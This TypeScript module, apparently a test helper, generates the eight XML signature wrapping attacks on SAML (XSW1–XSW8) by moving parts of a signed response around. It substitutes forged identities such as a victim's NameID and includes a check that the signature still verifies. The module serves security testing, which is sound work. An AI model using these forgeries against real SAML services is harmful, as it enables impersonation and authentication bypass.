/**
 * The eight XML signature wrapping shapes of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to
 * Be" (USENIX Security 2012), built by moving the parts of a validly signed response around. The signature
 * is never touched, so a verifier that only asks "does some signature verify?" says yes to every one.
 */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import type { Node } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';
const ASSERTION_END = '</saml:Assertion>';
const SIGNATURE_END = '</ds:Signature>';
const ISSUER_END = '</saml:Issuer>';

/** The catalogue's names; XSW1–2 abuse a signed Response, XSW3–8 a signed Assertion. */
export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

/** What each variant does to the document, for test names and failure messages. */
export const XSW_SHAPES: Readonly<Record<XswVariant, string>> = {
  XSW1: 'forged Response at the root carries the signature; the signed original Response sits inside that Signature',
  XSW2: 'forged Response at the root; the signed original Response sits beside the Signature (detached)',
  XSW3: 'forged unsigned Assertion inserted before the signed original Assertion',
  XSW4: 'forged Assertion wraps the signed original Assertion as its child',
  XSW5: 'forged Assertion carries the original signature; the original Assertion, unsigned, follows it',
  XSW6: 'forged Assertion carries the original signature, with the original Assertion inside that Signature',
  XSW7: 'forged unsigned Assertion hidden in samlp:Extensions beside the signed original Assertion',
  XSW8: 'forged Assertion carries the original signature, with the original Assertion inside its ds:Object',
};

/** Which signature a variant abuses. */
export function signedPartOf(variant: XswVariant): 'response' | 'assertion' {
  return variant === 'XSW1' || variant === 'XSW2' ? 'response' : 'assertion';
}

/** How the attacker's copy differs from the signed original. */
export interface XswForgery {
  /** ID of the forged element (Response for XSW1–2, Assertion for XSW3–8). */
  readonly forgedId: string;
  /** Text in the copy to replace, e.g. the victim's NameID. */
  readonly from: string;
  readonly to: string;
}

/**
 * Rewrites `signedXml` (a response from the test IdP with exactly one signature: on the Response for
 * XSW1–2, on the Assertion for XSW3–8) into the variant's shape.
 */
export function wrapSignature(variant: XswVariant, signedXml: string, forgery: XswForgery): string {
  const signature = single(signedXml, /<ds:Signature[\s\S]*?<\/ds:Signature>/g, 'ds:Signature');
  const forge = (element: string): string =>
    element
      .replace(/ ID="[^"]*"/, ` ID="${forgery.forgedId}"`)
      .split(forgery.from)
      .join(forgery.to);

  if (signedPartOf(variant) === 'response') {
    const original = signedXml.replace(signature, '');
    const forged = forge(original);
    const carried =
      variant === 'XSW1' ? insertBefore(signature, SIGNATURE_END, original) : `${original}${signature}`;
    return insertAfterFirst(forged, ISSUER_END, carried);
  }

  const signedAssertion = single(signedXml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/g, 'saml:Assertion');
  if (!signedAssertion.includes(signature)) throw new TypeError(`${variant} needs a signed assertion`);
  const unsignedOriginal = signedAssertion.replace(signature, '');
  const forged = forge(unsignedOriginal);
  const replaceAssertion = (replacement: string): string => signedXml.replace(signedAssertion, replacement);

  switch (variant) {
    case 'XSW3':
      return replaceAssertion(`${forged}${signedAssertion}`);
    case 'XSW4':
      return replaceAssertion(insertBefore(forged, ASSERTION_END, signedAssertion));
    case 'XSW5':
      return replaceAssertion(`${insertAfterFirst(forged, ISSUER_END, signature)}${unsignedOriginal}`);
    case 'XSW6':
      return replaceAssertion(
        insertAfterFirst(forged, ISSUER_END, insertBefore(signature, SIGNATURE_END, unsignedOriginal)),
      );
    case 'XSW7':
      // Extensions must come right after the Response's Issuer (and its Signature, absent here).
      return insertAfterFirst(signedXml, ISSUER_END, `<samlp:Extensions>${forged}</samlp:Extensions>`);
    case 'XSW8':
      return replaceAssertion(
        insertAfterFirst(
          forged,
          ISSUER_END,
          insertBefore(signature, SIGNATURE_END, `<ds:Object>${unsignedOriginal}</ds:Object>`),
        ),
      );
    default:
      throw new TypeError(`not an assertion variant: ${variant}`);
  }
}

/**
 * What a naive verifier concludes: the one Signature in the document verifies with this certificate and
 * its reference resolves to an element whose digest matches. True for every wrapped document, which is
 * what makes it a wrapping attack rather than a broken signature.
 */
export function signatureStillVerifies(xml: string, certificatePem: string): boolean {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const signatures = document.getElementsByTagNameNS(DSIG_NS, 'Signature');
  if (signatures.length !== 1) throw new TypeError(`expected one signature, found ${signatures.length}`);
  const verifier = new SignedXml({ publicCert: certificatePem });
  // Handed over as text: xml-crypto is typed against its own copy of the DOM types.
  verifier.loadSignature(new XMLSerializer().serializeToString(signatures[0] as Node));
  try {
    return verifier.checkSignature(xml);
  } catch {
    return false;
  }
}

function single(xml: string, pattern: RegExp, what: string): string {
  const found = xml.match(pattern) ?? [];
  const only = found[0];
  if (found.length !== 1 || only === undefined)
    throw new TypeError(`expected one ${what}, found ${found.length}`);
  return only;
}

function insertAfterFirst(xml: string, marker: string, insertion: string): string {
  const at = xml.indexOf(marker);
  if (at < 0) throw new TypeError(`no ${marker}`);
  return `${xml.slice(0, at + marker.length)}${insertion}${xml.slice(at + marker.length)}`;
}

function insertBefore(element: string, closingTag: string, insertion: string): string {
  if (!element.endsWith(closingTag)) throw new TypeError(`element does not end with ${closingTag}`);
  return `${element.slice(0, -closingTag.length)}${insertion}${closingTag}`;
}
